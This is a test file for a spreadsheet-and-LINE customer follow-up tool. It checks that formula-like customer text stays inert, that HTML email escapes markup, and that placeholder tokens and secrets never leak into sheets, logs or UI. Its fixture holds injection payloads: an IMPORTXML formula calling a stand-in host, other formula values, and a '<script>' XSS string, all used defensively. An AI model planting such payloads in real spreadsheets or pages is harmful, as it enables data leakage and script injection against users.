/**
 * Nothing leaked, nothing executed: customer text that looks like a formula stays text in Tsunagu's sheets and is
 * escaped in HTML email; the LINE token, the channel secret and the webhook secret appear nowhere the owner or a
 * log can see — not in a sheet, a log line, a message, the sidebar's data or its HTML — whatever goes wrong.
 */
import type { CellValue, FetchRequest, FetchResponse } from '../fakes';
import {
  SECOND_VISIT,
  lineStandIn,
  customerSheet,
  dateCell,
  loadTsunagu,
  settingsSheet,
  SHOP_SETTINGS,
  type Tsunagu,
} from '../bundle/harness';
import { tally } from './tally';

const TOKEN = 'TOKEN-7f3a9c1e5b2d8f4a6c0e';
const CHANNEL_SECRET = 'CHSECRET-1b2c3d4e5f60718293a4';
const WEBHOOK_SECRET = 'HOOK-9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b';
const SECRETS = [TOKEN, CHANNEL_SECRET, WEBHOOK_SECRET];

/** Customer text as pasted from other systems: formulas, signs, markup. */
const HOSTILE: Record<string, CellValue>[] = [
  { 顧客ID: 'F1', 氏名: '=IMPORTXML("http://evil.example","//a")', メール: 'f1@example.jp', ...SECOND_VISIT },
  { 顧客ID: 'F2', 氏名: '+81 佐藤', LINEユーザーID: `U${'2'.repeat(32)}`, ...SECOND_VISIT },
  { 顧客ID: 'F3', 氏名: '-1 鈴木', 郵便番号: '154-0004', 住所: '@東京都世田谷区1-2-3', ...SECOND_VISIT },
  {
    顧客ID: 'F4',
    氏名: '<script>alert(1)</script>',
    メール: 'f4@example.jp',
    ...SECOND_VISIT,
    購入商品: '<b>ヘッドスパ</b>',
  },
  {
    顧客ID: 'F5',
    氏名: '@田中',
    電話: '=1+1',
    電話許可: true,
    最終来店日: dateCell('2026-11-10'),
    来店回数: 5,
    カテゴリ: '整体',
    購入商品: '=SUM(A1:A9)',
  },
];

/** LINE that fails in turn with the given statuses, then 400s that quote the request's Authorization header. */
function failingLine(statuses: number[]) {
  return lineStandIn({
    push: (request) => {
      const status = statuses.shift() ?? 400;
      return { status, body: JSON.stringify({ message: `bad request ${request.headers.Authorization}` }) };
    },
  }).handler;
}

function shop(fetch: (r: FetchRequest) => FetchResponse): Tsunagu {
  return loadTsunagu({
    sheets: [customerSheet(HOSTILE), settingsSheet([...SHOP_SETTINGS, ['LINE自動送信', 'TRUE']])],
    today: '2026-11-22',
    hour: 10,
    fetch,
    documentProperties: {
      'tsunagu.line.token': TOKEN,
      'tsunagu.line.channelSecret': CHANNEL_SECRET,
      'tsunagu.webhookSecret': WEBHOOK_SECRET,
    },
  });
}

/** Everything the owner or a log can see. */
function visible(t: Tsunagu, replies: unknown[]): string {
  const ui = t.services.ui;
  return JSON.stringify([
    t.services.spreadsheet.toData(),
    ui.alerts,
    ui.shown,
    t.services.spreadsheet.toasts,
    t.services.console.lines,
    t.services.exportState().gmail,
    replies,
  ]);
}

const SYSTEM_SHEETS = ['連絡履歴', 'LINE送信', '手紙', '宛名ラベル', '電話リスト', '集計'];

describe('customer text never runs as a formula or markup', () => {
  test("values starting with = + - @ stay text in every one of Tsunagu's sheets", () => {
    const t = shop(failingLine([]));
    t.call('runDailyFollowUps');
    t.call('createLetterSheet');
    const data = t.services.spreadsheet.toData();
    for (const name of SYSTEM_SHEETS) {
      const sheet = data.sheets.find((s) => s.name === name);
      expect({ name, formulas: sheet?.formulas ?? {} }).toEqual({ name, formulas: {} });
    }
    // The text itself is there, as text.
    const log = JSON.stringify(t.values('連絡履歴'));
    expect(log).toContain('IMPORTXML');
    expect(JSON.stringify(t.values('手紙'))).toContain('@東京都世田谷区1-2-3');
    tally.badInputsTried += HOSTILE.length;
  });

  test('HTML email bodies escape customer text', () => {
    const t = shop(failingLine([]));
    t.call('runDailyFollowUps');
    const draft = t.services.exportState().gmail.drafts.find((d) => d.message.to === 'f4@example.jp');
    expect(draft?.message.htmlBody).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(draft?.message.htmlBody).not.toContain('<script>');
    expect(draft?.message.htmlBody).not.toContain('<b>ヘッドスパ');
  });
});

describe('the secrets', () => {
  test('appear in no sheet, message, log line, sidebar data or sidebar HTML, through every failure', () => {
    const t = shop(failingLine([401, 500, 500, 500, 400]));
    const replies: unknown[] = [];
    const call = (name: string, ...args: unknown[]) => {
      try {
        replies.push(t.call(name, ...args));
      } catch (error) {
        replies.push(String(error));
      }
    };
    call('runDailyFollowUps');
    call('sendApprovedLine');
    call('sendApprovedLine');
    call('runScheduled', {});
    call('getTodayFollowUps');
    call('getSettingsView');
    call('getSetupWizard');
    call('showTodaySidebar');
    call('showSettingsSidebar');
    call('saveLineSettings', { token: 'トークン', secret: ' ', ownerUserId: 'nobody' });
    call('sendTestNotice');
    call('applyFollowUpAction', { keys: ['F2|S1|お伺い|2026-11-20'], action: 'approveLine', send: true });
    for (const secret of [null, 'wrong', WEBHOOK_SECRET]) {
      const parameter = secret ? { secret } : {};
      const reply = t.call('doPost', { parameter, postData: { contents: `{"events":"${TOKEN}"}` } }) as {
        getContent(): string;
      };
      replies.push(reply.getContent());
    }
    const seen = visible(t, replies);
    for (const secret of SECRETS) expect(seen).not.toContain(secret);
    // The failures did happen and were told, in Japanese.
    expect(seen).toContain('チャネルアクセストークン');
    expect(seen).toContain('LINEのサーバーに一時的につながりませんでした');
    expect(seen).toContain('LINEの説明: bad request Bearer');
    expect(t.services.properties.document.getProperty('tsunagu.line.token')).toBe(TOKEN);
    tally.faultsInjected += 5;
  });
});
